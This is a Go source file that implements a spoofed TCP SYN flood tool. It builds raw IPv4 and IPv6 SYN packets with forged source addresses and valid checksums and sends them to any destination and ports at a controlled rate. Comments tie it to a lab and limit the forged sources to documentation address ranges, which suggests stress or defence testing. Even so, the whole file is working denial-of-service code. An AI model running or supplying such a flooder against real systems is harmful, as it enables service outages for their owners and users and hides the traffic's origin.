package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"syscall"
	"time"
)

// IPv4 sources are two documentation /24s, 500 addresses, none of them
// the lab's client (198.51.100.1).
var sourceNets4 = [][4]byte{{192, 0, 2, 0}, {203, 0, 113, 0}}

const max4Sources = 500

// IPv6 sources are drawn from 2001:db8:f100::/48, inside the documentation
// prefix and away from the lab's 2001:db8::/64.
var sourceNet6 = [6]byte{0x20, 0x01, 0x0d, 0xb8, 0xf1, 0x00}

// flooder builds and sends one spoofed SYN at a time.
type flooder struct {
	fd      int
	sa      syscall.Sockaddr
	dst     netip.Addr
	ports   []uint16
	sources int // distinct sources; IPv6 0: a new random one for every packet
	pkt     []byte
}

func newFlooder(dst string, ports []uint16, sources int) (*flooder, error) {
	to, err := netip.ParseAddr(dst)
	if err != nil {
		return nil, fmt.Errorf("-dst %q: want an IPv4 or IPv6 address", dst)
	}
	to = to.Unmap()
	f := &flooder{dst: to, ports: ports, sources: sources}
	family := syscall.AF_INET
	if to.Is4() {
		if sources == 0 {
			f.sources = max4Sources
		}
		if f.sources < 0 || f.sources > max4Sources {
			return nil, fmt.Errorf("-sources %d: an IPv4 flood has 1..%d sources (documentation addresses); use an IPv6 -dst for more", sources, max4Sources)
		}
		f.sa = &syscall.SockaddrInet4{Addr: to.As4()}
		f.pkt = make([]byte, 40)
	} else {
		family = syscall.AF_INET6
		// The kernel takes the port of a raw IPv6 socket's address as the
		// protocol: leave it 0, the packet carries its own header.
		f.sa = &syscall.SockaddrInet6{Addr: to.As16()}
		f.pkt = make([]byte, 60)
	}
	// IPPROTO_RAW: the packet carries its own IP header (IPv4: IP_HDRINCL;
	// IPv6: implied for IPPROTO_RAW since Linux 4.5).
	fd, err := syscall.Socket(family, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return nil, fmt.Errorf("raw socket (needs root): %w", err)
	}
	f.fd = fd
	return f, nil
}

// source returns the next spoofed source address.
func (f *flooder) source() netip.Addr {
	if f.dst.Is4() {
		i := rand.IntN(f.sources)
		n := sourceNets4[i%len(sourceNets4)]
		n[3] = byte(2 + i/len(sourceNets4))
		return netip.AddrFrom4(n)
	}
	var a [16]byte
	copy(a[:], sourceNet6[:])
	if f.sources > 0 {
		binary.BigEndian.PutUint64(a[8:], uint64(1+rand.IntN(f.sources)))
	} else {
		binary.BigEndian.PutUint16(a[6:], uint16(rand.Uint32()))
		binary.BigEndian.PutUint64(a[8:], rand.Uint64()|1)
	}
	return netip.AddrFrom16(a)
}

func (f *flooder) send() error {
	src := f.source()
	sport := uint16(1024 + rand.IntN(60000))
	dport := f.ports[rand.IntN(len(f.ports))]
	if f.dst.Is4() {
		build4(f.pkt, src.As4(), f.dst.As4(), sport, dport, rand.Uint32())
	} else {
		build6(f.pkt, src.As16(), f.dst.As16(), sport, dport, rand.Uint32())
	}
	err := syscall.Sendto(f.fd, f.pkt, 0, f.sa)
	if err != nil && err != syscall.ENOBUFS && err != syscall.EPERM {
		return err
	}
	return nil
}

func run(ctx context.Context, dst string, ports []uint16, pps, sources int, dur time.Duration) (int, error) {
	f, err := newFlooder(dst, ports, sources)
	if err != nil {
		return 0, err
	}
	defer syscall.Close(f.fd)
	sent := 0
	start := time.Now()
	// Send in 1 ms batches, each topping the count up to the schedule.
	for {
		el := time.Since(start)
		if el >= dur || ctx.Err() != nil {
			return sent, nil
		}
		due := int(el.Seconds() * float64(pps))
		// At most 10 ms of packets per batch, so that a sender that falls
		// behind still stops on time.
		due = min(due, sent+pps/100+1)
		for ; sent < due; sent++ {
			if err := f.send(); err != nil {
				return sent, err
			}
		}
		time.Sleep(time.Millisecond)
	}
}

// build4 writes an IPv4 header and a TCP SYN with correct checksums.
func build4(b []byte, src, dst [4]byte, sport, dport uint16, seq uint32) {
	b[0], b[1] = 0x45, 0
	binary.BigEndian.PutUint16(b[2:], 40)
	binary.BigEndian.PutUint16(b[4:], uint16(seq))
	b[6], b[7], b[8], b[9] = 0x40, 0, 64, syscall.IPPROTO_TCP
	b[10], b[11] = 0, 0
	copy(b[12:16], src[:])
	copy(b[16:20], dst[:])
	binary.BigEndian.PutUint16(b[10:], csum(b[:20], 0))
	buildSYN(b[20:40], sport, dport, seq, sum16(src[:])+sum16(dst[:])+syscall.IPPROTO_TCP+20)
}

// build6 writes an IPv6 header and a TCP SYN with a correct checksum.
func build6(b []byte, src, dst [16]byte, sport, dport uint16, seq uint32) {
	binary.BigEndian.PutUint32(b[0:], 6<<28)
	binary.BigEndian.PutUint16(b[4:], 20) // payload length
	b[6], b[7] = syscall.IPPROTO_TCP, 64
	copy(b[8:24], src[:])
	copy(b[24:40], dst[:])
	buildSYN(b[40:60], sport, dport, seq, sum16(src[:])+sum16(dst[:])+syscall.IPPROTO_TCP+20)
}

// buildSYN writes a 20-byte TCP SYN; pseudo is the pseudo-header's sum.
func buildSYN(t []byte, sport, dport uint16, seq uint32, pseudo uint32) {
	binary.BigEndian.PutUint16(t[0:], sport)
	binary.BigEndian.PutUint16(t[2:], dport)
	binary.BigEndian.PutUint32(t[4:], seq)
	binary.BigEndian.PutUint32(t[8:], 0)
	t[12], t[13] = 5<<4, 0x02 // SYN
	binary.BigEndian.PutUint16(t[14:], 64240)
	t[16], t[17], t[18], t[19] = 0, 0, 0, 0
	binary.BigEndian.PutUint16(t[16:], csum(t, pseudo))
}

// sum16 adds up b as big-endian 16-bit words.
func sum16(b []byte) uint32 {
	var s uint32
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(b[i])<<8 | uint32(b[i+1])
	}
	return s
}

func csum(b []byte, sum uint32) uint16 {
	sum += sum16(b)
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
